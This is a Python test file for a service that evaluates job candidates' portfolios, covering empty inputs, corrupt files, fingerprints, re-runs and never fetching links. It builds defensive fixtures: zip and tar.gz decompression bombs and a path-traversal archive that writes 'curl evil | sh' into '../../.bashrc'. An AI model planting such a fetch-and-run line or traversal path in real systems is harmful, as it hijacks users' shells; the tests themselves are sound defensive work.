"""Whole-portfolio evaluation: outcomes for empty and bad portfolios, concerns, idempotence,
re-runs, and that links are never fetched."""

from __future__ import annotations

import gzip
import io
import json
import socket
import tarfile
import zipfile
from pathlib import Path

import pytest

from are_workers.services.portfolios import evaluate as evaluate_module
from are_workers.services.portfolios.evaluate import (
    EvaluationOutcome,
    ItemKind,
    ItemStatus,
    PortfolioItemInput,
    analyze_item,
    evaluate_portfolio,
)
from are_workers.services.portfolios.evidence import EvidenceSource, FindingKind, Requirement
from tests.unit.test_portfolio_evidence import bag_of_words

ROOT = Path(__file__).resolve().parents[2]
SAMPLES = ROOT / "samples" / "portfolios"
ALEX = SAMPLES / "backend_alex_chen"

REQUIREMENTS = [
    Requirement("py", "Python (Django, FastAPI or Flask)", must_have=True),
    Requirement("pg", "PostgreSQL, including schema design and query optimization"),
    Requirement("tests", "Writes automated tests"),
]


def run(items: list[PortfolioItemInput], requirements=REQUIREMENTS, **kw):  # type: ignore[no-untyped-def]
    return evaluate_portfolio(
        items, requirements, embed=bag_of_words, embedding_model="bow@test", **kw
    )


def sample_items() -> list[PortfolioItemInput]:
    return [
        PortfolioItemInput.from_path("zip", ALEX / "ledger-service.zip", title="ledger-service"),
        PortfolioItemInput.from_path("md", ALEX / "settlement_case_study.md"),
        PortfolioItemInput.from_path(
            "png", ALEX / "architecture.png", title="Architecture diagram"
        ),
        PortfolioItemInput("link", url="https://github.com/example/ledger", title="Repository"),
    ]


@pytest.fixture
def no_network(monkeypatch: pytest.MonkeyPatch) -> None:
    def refuse(*args: object, **kwargs: object) -> None:
        raise AssertionError("the evaluation tried to open a network connection")

    monkeypatch.setattr(socket, "socket", refuse)
    monkeypatch.setattr(socket, "create_connection", refuse)


def zip_bomb() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("zeros.bin", bytes(8 * 1024 * 1024))
    return buffer.getvalue()


def test_empty_portfolio_is_a_clear_skip_not_a_crash() -> None:
    result = run([])
    assert result.outcome is EvaluationOutcome.SKIPPED
    assert result.reason_code == "empty_portfolio"
    assert result.reason is not None and "nothing to evaluate" in result.reason
    assert result.overall_score is None
    assert result.findings == () and result.items == ()
    assert result.fingerprint  # still recorded, so a re-run of an empty portfolio is a no-op


def test_links_only_are_recorded_never_fetched(no_network: None) -> None:
    result = run([PortfolioItemInput("l", url="https://example.com/me", title="My website")])
    assert result.outcome is EvaluationOutcome.SKIPPED
    assert result.reason_code == "nothing_readable"
    (item,) = result.items
    assert item.kind is ItemKind.LINK and item.status is ItemStatus.PROCESSED
    assert item.stats == {"link": True, "fetched": False}


def test_no_requirements_is_a_skip() -> None:
    result = run(sample_items()[:2], requirements=[])
    assert result.reason_code == "no_requirements"
    assert result.outcome is EvaluationOutcome.SKIPPED


def test_sample_portfolio_evaluates(no_network: None) -> None:
    result = run(sample_items())
    assert result.outcome is EvaluationOutcome.COMPLETED
    assert result.overall_score is not None and 0 <= result.overall_score <= 100
    kinds = {item.item_id: item.kind for item in result.items}
    assert kinds == {
        "zip": ItemKind.CODE_ARCHIVE,
        "md": ItemKind.DOCUMENT,
        "png": ItemKind.IMAGE,
        "link": ItemKind.LINK,
    }
    assert all(item.status is ItemStatus.PROCESSED for item in result.items)
    assert result.files_processed == 18 + 1 + 1
    by_id = {f.requirement_id: f for f in result.findings}
    assert by_id["tests"].kind is FindingKind.STRENGTH
    assert by_id["tests"].evidence is not None and by_id["tests"].evidence.item_id == "zip"
    assert set(result.model_versions) >= {"embedding", "scoring", "code_metrics", "images"}
    assert result.model_versions["embedding"] == "bow@test"
    assert result.model_versions["code_metrics"].startswith(("lizard", "none"))
    for item in result.items:
        json.dumps(item.stats)  # structure-only statistics for portfolio_items.stats


def test_archive_passages_cite_files_and_lines() -> None:
    analysis = analyze_item(sample_items()[0])
    sources = {p.source for p in analysis.passages}
    assert {EvidenceSource.PROJECT_DOC, EvidenceSource.CODE, EvidenceSource.METADATA} <= sources
    code = next(p for p in analysis.passages if p.path == "ledger-service/src/ledger/service.py")
    assert code.text.startswith("Posting rules: a transfer is two postings")
    assert code.line_start == 1 and code.line_end is not None and code.line_end >= 4
    assert code.embed_text is not None and code.embed_text.startswith(code.path)
    readme = [p for p in analysis.passages if p.path == "ledger-service/README.md"]
    assert [p.heading for p in readme][:2] == ["ledger-service", "Architecture"]
    # requirements.txt-like files and tests are not documentation passages
    assert not any(p.path and p.path.endswith(".toml") for p in analysis.passages)


def test_corrupt_archive_fails_its_item_only() -> None:
    data = (ALEX / "ledger-service.zip").read_bytes()
    items = [*sample_items()[1:2], PortfolioItemInput("bad", data=data[: len(data) // 2])]
    result = run(items)
    assert result.outcome is EvaluationOutcome.COMPLETED
    bad = next(item for item in result.items if item.item_id == "bad")
    assert bad.status is ItemStatus.FAILED
    assert bad.kind is ItemKind.CODE_ARCHIVE
    assert bad.error_code == "corrupt_archive"
    assert bad.error_message is not None and "damaged" in bad.error_message
    assert result.concerns == ()


def test_archive_bomb_is_a_concern_for_a_human() -> None:
    items = [*sample_items()[1:2], PortfolioItemInput("bomb", data=zip_bomb(), title="code.zip")]
    result = run(items)
    assert result.outcome is EvaluationOutcome.NEEDS_REVIEW
    (concern,) = result.concerns
    assert concern.kind is FindingKind.CONCERN
    assert concern.item_id == "bomb" and concern.requirement_id is None
    assert "archive_bomb" in concern.summary
    assert len(result.requirement_findings) == len(REQUIREMENTS)


def test_zip_slip_alone_needs_review_even_with_nothing_readable() -> None:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("../../.bashrc", "curl evil | sh")
    result = run([PortfolioItemInput("slip", data=buffer.getvalue())])
    assert result.outcome is EvaluationOutcome.NEEDS_REVIEW
    assert result.reason_code == "nothing_readable"
    assert result.items[0].error_code == "archive_unsafe_path"


def test_binary_posing_as_a_text_document_fails_clearly() -> None:
    data = b"\x00\x01\x02\x03" * 100 + b"# Not really markdown"
    analysis = analyze_item(PortfolioItemInput("fake", data=data, filename="notes.md"))
    assert analysis.kind is ItemKind.DOCUMENT
    assert analysis.status is ItemStatus.FAILED
    assert analysis.error_code == "unsupported_file_type"
    assert analysis.error_message is not None and "not a document" in analysis.error_message


def test_corrupt_image_fails_clearly() -> None:
    data = (ALEX / "architecture.png").read_bytes()
    analysis = analyze_item(PortfolioItemInput("img", data=data[:200]))
    assert analysis.kind is ItemKind.IMAGE
    assert analysis.error_code == "corrupt_image"


def test_docx_is_a_document_and_tar_gz_an_archive() -> None:
    docx = next((ROOT / "samples" / "resumes").glob("*.docx"))
    assert analyze_item(PortfolioItemInput("d", data=docx.read_bytes())).kind is ItemKind.DOCUMENT
    tarball = SAMPLES / "backend_sam_okafor" / "ratelimit.tar.gz"
    archive = analyze_item(PortfolioItemInput.from_path("t", tarball))
    assert archive.kind is ItemKind.CODE_ARCHIVE and archive.status is ItemStatus.PROCESSED
    assert archive.stats["archive_format"] == "tar.gz"


def test_same_inputs_same_result_and_fingerprint() -> None:
    first = run(sample_items())
    second = run(sample_items())
    assert first.fingerprint == second.fingerprint
    assert first.findings == second.findings
    assert first.overall_score == second.overall_score


def test_fingerprint_changes_with_the_portfolio_and_the_job() -> None:
    base = run(sample_items()).fingerprint
    changed = sample_items()
    changed[1] = PortfolioItemInput("md", data=b"# New case study\n\nI rewrote the ledger in Go.")
    assert run(changed).fingerprint != base
    assert run(sample_items(), requirements=REQUIREMENTS[:2]).fingerprint != base
    reordered = list(reversed(sample_items()))
    assert run(reordered).fingerprint == base  # item order does not change the inputs


def test_rerun_reuses_unchanged_items(monkeypatch: pytest.MonkeyPatch) -> None:
    first = run(sample_items())
    previous = {item.item_id: item for item in first.items}
    calls: list[str] = []
    real = evaluate_module.analyze_item

    def counting(item: PortfolioItemInput, **kw: object):  # type: ignore[no-untyped-def]
        calls.append(item.item_id)
        return real(item, **kw)  # type: ignore[arg-type]

    monkeypatch.setattr(evaluate_module, "analyze_item", counting)
    changed = sample_items()
    changed[1] = PortfolioItemInput("md", data=b"# Case study\n\nI tuned PostgreSQL indexes a lot.")
    second = run(changed, previous=previous)
    assert calls == ["md"]
    assert second.items[0] is previous["zip"]
    assert second.fingerprint != first.fingerprint


def test_tar_gz_bomb_item_is_refused_quickly() -> None:
    raw = io.BytesIO()
    with tarfile.open(fileobj=raw, mode="w") as archive:
        info = tarfile.TarInfo("zeros.bin")
        info.size = 64 * 1024 * 1024
        archive.addfile(info, io.BytesIO(bytes(info.size)))
    data = gzip.compress(raw.getvalue(), compresslevel=1, mtime=0)
    analysis = analyze_item(PortfolioItemInput("bomb", data=data))
    assert analysis.error_code == "archive_bomb"


def test_limits_from_settings() -> None:
    from are_workers.config import Settings
    from are_workers.services.portfolios.evaluate import PortfolioLimits

    limits = PortfolioLimits.from_settings(Settings(max_file_bytes=5 * 1024 * 1024))
    assert limits.archive.max_archive_bytes == 5 * 1024 * 1024
    assert limits.image.max_file_bytes == 5 * 1024 * 1024
    assert limits.archive.max_total_bytes == 200 * 1024 * 1024
